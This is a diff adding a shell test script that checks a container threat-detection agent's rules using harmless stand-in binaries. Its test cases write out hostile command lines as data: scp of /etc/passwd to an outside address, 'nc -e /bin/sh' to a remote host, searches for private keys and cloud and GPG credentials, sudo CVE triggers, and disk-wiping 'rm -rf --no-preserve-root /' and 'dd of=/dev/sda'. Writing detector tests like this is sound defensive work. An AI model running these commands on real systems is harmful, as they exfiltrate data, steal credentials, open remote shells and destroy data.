@@ -1,0 +1,64 @@
+#!/bin/bash
+# test_detectors.sh - the catalogue's runtime detectors beside the escape-tool
+# ones (docs/detectors.md), each with a positive and a negative case in real
+# runc containers: compiler, remote file copy, steganography, credential,
+# Google Cloud credential and GPG key searches, the two sudo CVEs, bulk
+# wiping, destructive command lines, netcat running a program; and an
+# exception by container name. The programs are harmless stand-ins under the
+# tools' names (busybox's applets where it has them): only the name and the
+# arguments decide, as in the reference's definitions.
+source "$(dirname "$0")/lib.sh"
+live_init
+OUT=$LIVE_DIR/findings.jsonl
+jqt() { jq -e "$@" >/dev/null 2>&1; }
+check "a container" start_container cw-det
+check "a build container" start_container cw-det-build
+R=$LIVE_DIR/bundles/cw-det/rootfs
+for n in gcc scp steghide sudo sudoedit shred rm dd nc grep find gpg; do
+	cp "$LIVE_DIR/harmless" "$R/opt/$n"
+	cp "$LIVE_DIR/harmless" "$LIVE_DIR/bundles/cw-det-build/rootfs/opt/$n"
+done
+echo '{"exceptions": [{"rules": ["tool.compiler.*"], "names": ["cw-det-build"], "comment": "builds"}]}' >"$LIVE_DIR/exc.json"
+check "agent starts" start_agent "$OUT" --technique-exceptions "$LIVE_DIR/exc.json"
+run() { cexec "${2:-cw-det}" "$LIVE_DIR/x.pid" sh -c "$1" >/dev/null 2>&1; }
+
+# expect CATEGORY SEVERITY MODULE KEY CMD: CMD in the container gives that
+# finding (the one whose arguments contain KEY)
+expect() {
+	local cat=$1 sev=$2 mod=$3 key=$4 cmd=$5 f
+	run "$cmd"
+	f=$(wait_finding "$OUT" ".category == \"$cat\" and (.processes[0].args | tostring | contains($(jq -Rn --arg c "$key" '$c')))")
+	check "$cat: \`$cmd\` ($sev)" jqt --arg s "$sev" --arg m "$mod" \
+		'.severity == $s and .moduleName == $m and (.mitreAttack.primaryTechniques | length > 0) and .sourceProperties.Container_Id == "cw-det"' <<<"${f:-null}"
+}
+
+# benign first: none of these may give a finding
+run 'ls / >/dev/null; cat /etc/passwd >/dev/null; grep root /etc/group; /opt/grep -r TODO /etc; find /etc -name passwd; /opt/find /etc -name "*.conf"; rm -rf /tmp/none; dd if=/dev/zero of=/tmp/f bs=1k count=1; /opt/sudo -u root true; /opt/sudoedit /etc/motd; /opt/nc -z 127.0.0.1 80; /opt/dd if=/dev/zero of=/tmp/g count=1; /opt/rm -rf /tmp/none; /opt/gpg --verify x.sig'
+sleep 1
+check "benign commands give no finding ($(jq -r .category "$OUT" 2>/dev/null | sort -u | tr '\n' ','))" \
+	test "$(jq -s length "$OUT")" = 0
+
+expect "Defense Evasion: Launch Code Compiler Tool In Container" LOW LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER exploit.c '/opt/gcc -c exploit.c'
+expect "Exfiltration: Launch Remote File Copy Tools in Container" LOW LAUNCH_REMOTE_FILE_COPY_TOOLS_IN_CONTAINER /tmp/loot '/opt/scp /etc/passwd u@203.0.113.9:/tmp/loot'
+expect "Command and Control: Steganography Tool Detected" CRITICAL STEGANOGRAPHY_TOOL_DETECTED secrets.txt '/opt/steghide embed -cf cat.jpg -ef secrets.txt'
+expect "Credential Access: Search Private Keys or Passwords" LOW SEARCH_PRIVATE_KEYS_OR_PASSWORDS "RSA PRIVATE" '/opt/grep -rl "BEGIN RSA PRIVATE KEY" /etc'
+expect "Credential Access: Search Private Keys or Passwords" LOW SEARCH_PRIVATE_KEYS_OR_PASSWORDS "id_rsa" 'busybox find / -name id_rsa'
+expect "Credential Access: Find Google Cloud Credentials" LOW FIND_GCP_CREDENTIALS application_default '/opt/find / -name application_default_credentials.json'
+expect "Credential Access: GPG Key Reconnaissance" CRITICAL GPG_KEY_RECONNAISSANCE gnupg '/opt/find / -path "*.gnupg*"'
+expect "Credential Access: GPG Key Reconnaissance" CRITICAL GPG_KEY_RECONNAISSANCE list-secret '/opt/gpg --list-secret-keys'
+expect "Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)" CRITICAL ABUSE_SUDO_FOR_PRIVILEGE_ESCALATION "#-1" '/opt/sudo -u#-1 /bin/id'
+expect "Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)" CRITICAL SUDO_POTENTIAL_PRIVILEGE_ESCALATION AAAA '/opt/sudoedit -s AAAA\\'
+expect "Impact: Remove Bulk Data From Disk" LOW REMOVE_BULK_DATA_FROM_DISK "/tmp/f" '/opt/shred -u /tmp/f'
+expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES no-preserve-root '/opt/rm -rf --no-preserve-root /'
+expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES "of=/dev/sda" '/opt/dd if=/dev/zero of=/dev/sda'
+expect "Execution: Netcat Remote Code Execution in Container" LOW NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER 203.0.113.9 '/opt/nc -e /bin/sh 203.0.113.9'
+
+# the exception: a compiler in the build container is excepted, elsewhere not
+run '/opt/gcc -c build.c' cw-det-build
+run '/opt/scp a u@203.0.113.9:b' cw-det-build
+check "the build container's scp is still reported" \
+	test -n "$(wait_finding "$OUT" '.sourceProperties.Container_Id == "cw-det-build" and .category == "Exfiltration: Launch Remote File Copy Tools in Container"')"
+check "... and its compiler is excepted (tool.compiler.* for cw-det-build)" \
+	test -z "$(jq -c 'select(.sourceProperties.Container_Id == "cw-det-build" and (.category | test("Compiler")))' "$OUT")"
+stop_agent
+live_done
